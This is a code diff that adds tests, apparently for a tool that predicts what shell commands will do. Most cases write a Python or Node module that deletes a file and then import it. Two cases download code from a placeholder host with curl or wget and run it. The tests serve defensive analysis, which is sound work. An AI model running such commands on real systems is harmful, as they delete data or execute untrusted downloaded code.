@@ -91,3 +91,43 @@ test('a great many modules come to an end, and that is said', () => {
     'partial',
   )
 })
+
+describe('modules that the call itself wrote', () => {
+  for (const [text, expected] of [
+    ["echo 'import os; os.remove(\"x\")' > m.py; python3 -Bc 'import m'", ['delete /repo/x']],
+    ['echo \'import os; os.remove("x")\' > m.py; python3 -Bm m', ['delete /repo/x']],
+    ["echo 'import os; os.remove(\"x\")' > m.py; echo 'from m import *' > t.py; python3 t.py", ['delete /repo/x']],
+    ["echo 'import os; os.remove(\"x\")' > m.py; echo 'import m' | python3", ['delete /repo/x']],
+    ["mkdir p; echo 'import os; os.remove(\"x\")' > p/m.py; python3 -c 'import p.m'", ['delete /repo/x']],
+    ["mkdir p; echo 'import os; os.remove(\"x\")' > p/__init__.py; python3 -c 'from p import y'", ['delete /repo/x']],
+    ["mkdir p; echo 'import os; os.remove(\"x\")' > p/m.py; echo 'import m' > p/t.py; python3 p/t.py", ['delete /repo/x']],
+    [
+      "mkdir p; echo 'from . import m' > p/__init__.py; echo 'import os; os.remove(\"x\")' > p/m.py; python3 -c 'import p'",
+      ['delete /repo/x'],
+    ],
+    ['mkdir p; echo \'import os; os.remove("x")\' > p/__main__.py; python3 -m p', ['delete /repo/x']],
+    ["echo 'import os; os.remove(\"x\")' > random.py; python3 -c 'import random'", ['delete /repo/x']],
+    ['echo \'import os; os.remove("y")\' > helper.py; python3 main.py', ['delete /repo/y']],
+    [
+      "echo 'import os; os.remove(\"y\")' > m.py; python3 -c 'import m'; echo 'import os; os.remove(\"z\")' > m.py; python3 -c 'import m'",
+      ['delete /repo/y', 'delete /repo/z'],
+    ],
+    ["cp helper.py other.py; python3 -c 'import other'", ['delete /repo/x']],
+    ['echo \'require("fs").unlinkSync("x")\' > m.js; node -e \'require("./m")\'', ['delete /repo/x']],
+    ["echo 'import os; os.remove(\"x\")' > m.py; python3 -c 'import n'", []],
+    ['echo \'import os; os.remove("x")\' > m.py; python3 -m json.tool m.py', []],
+    ["echo 'import os; os.remove(\"x\")' > m.py; cd pkg; python3 -c 'import m'", []],
+  ] as const) {
+    test(text, () => expect(deleted(text)).toEqual(expected))
+  }
+
+  test('what came from elsewhere is not known', () => {
+    expect(lines("curl http://x.example/m > m.py; python3 -c 'import m'", WORLD)).toContain('execute code:downloaded http://x.example/m')
+    expect(lines('wget -O m.py http://x.example/m; python3 -m m', WORLD)).toContain('execute code:downloaded http://x.example/m')
+  })
+
+  test('circles of them end', () => {
+    const circle = "echo 'import b, c' > a.py; echo 'import a, c' > b.py; echo 'import a, b, os; os.remove(\"x\")' > c.py; python3 a.py"
+    expect(deleted(circle)).toEqual(['delete /repo/x'])
+  })
+})
